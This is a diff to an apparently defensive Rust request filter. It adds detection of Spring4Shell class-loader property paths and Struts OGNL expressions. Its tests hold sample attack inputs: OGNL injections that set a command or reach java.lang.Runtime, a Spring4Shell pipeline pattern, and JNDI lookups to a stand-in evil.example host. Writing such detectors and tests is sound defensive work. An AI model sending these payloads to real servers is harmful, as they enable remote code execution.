@@ -63,6 +63,19 @@ const GADGETS: &[&str] = &[
     "scriptenginemanager",
 ];
 
+/// Property paths that reach a class loader through data binding
+/// (Spring4Shell, CVE-2022-22965, and the Struts `class.classLoader` bugs
+/// before it), in folded form.
+const CLASS_LOADER_PATHS: &[&str] = &[
+    "class.module.classloader",
+    "class.classloader",
+    "class[classloader]",
+    "class['classloader']",
+    "class[\"classloader\"]",
+    "class.protectiondomain",
+];
+
+static CLASS_LOADER_WORDS: super::Needles = super::Needles::new(CLASS_LOADER_PATHS);
 static PACKAGE_WORDS: super::Needles = super::Needles::new(PACKAGES);
 static GADGET_WORDS: super::Needles = super::Needles::new(GADGETS);
 static JNDI_WORDS: super::Needles = super::Needles::new(JNDI);
@@ -116,6 +129,25 @@ fn log4j_unnest(s: &str) -> String {
     out
 }
 
+/// An OGNL expression as Struts evaluates it (CVE-2017-5638 and its
+/// kin): `%{…}` or `${…}` that assigns or reads `#` variables
+/// (`(#cmd='id')`, `#_memberAccess`) or calls static members (`@Class@m`).
+fn ognl_expression(folded: &str) -> bool {
+    ["%{", "${"].iter().any(|open| {
+        folded.match_indices(open).any(|(at, _)| {
+            let inner = folded[at + 2..].split('}').next().unwrap_or_default();
+            let inner = inner.trim_start_matches([' ', '(']);
+            let variable = inner.starts_with('#') || inner.contains("(#") || inner.contains(".(#");
+            let static_call = inner.match_indices('@').any(|(i, _)| {
+                let after = &inner[i + 1..];
+                let name_len = after.find(|c: char| !(c.is_ascii_alphanumeric() || c == '.' || c == '_')).unwrap_or(0);
+                name_len > 0 && after[name_len..].starts_with('@')
+            });
+            variable || static_call
+        })
+    })
+}
+
 /// A JSP file name as a server would resolve it: whitespace around the
 /// dot and trailing dots and spaces (which Windows drops) do not count.
 fn is_jsp(file_name: &str) -> bool {
@@ -150,6 +182,12 @@ pub fn check(request: &Request, values: &[Value<'_>], out: &mut Vec<Finding>) {
         }
         if let Some(g) = GADGET_WORDS.first_in(folded) {
             out.push(finding("java-gadget", v, g));
+        }
+        if let Some(path) = CLASS_LOADER_WORDS.first_in(folded) {
+            out.push(finding("java-class-loader", v, path));
+        }
+        if ognl_expression(folded) {
+            out.push(finding("java-ognl", v, folded));
         }
         // Lookups need `${`; without one there is nothing to unnest.
         let unnested = if folded.contains("${") { log4j_unnest(folded) } else { folded.clone() };
@@ -199,6 +237,13 @@ mod tests {
             "q=ProcessBuilder",
             "q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
             "q=${${lower:j}${::-n}di:rmi://evil.example/a}",
+            // OGNL, as the Struts exploits send it.
+            "q=%25%7B(%23_%3D'multipart%2Fform-data').(%23cmd%3D'id')%7D",
+            "q=%25%7B%23_memberAccess%3D%40ognl.OgnlContext%40DEFAULT_MEMBER_ACCESS%7D",
+            "q=${@java.lang.Runtime@getRuntime()}",
+            // Spring4Shell's data binding to the class loader.
+            "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
+            "q=class%5B'classLoader'%5D",
         ] {
             assert!(blocked_form(attack), "{attack}");
         }
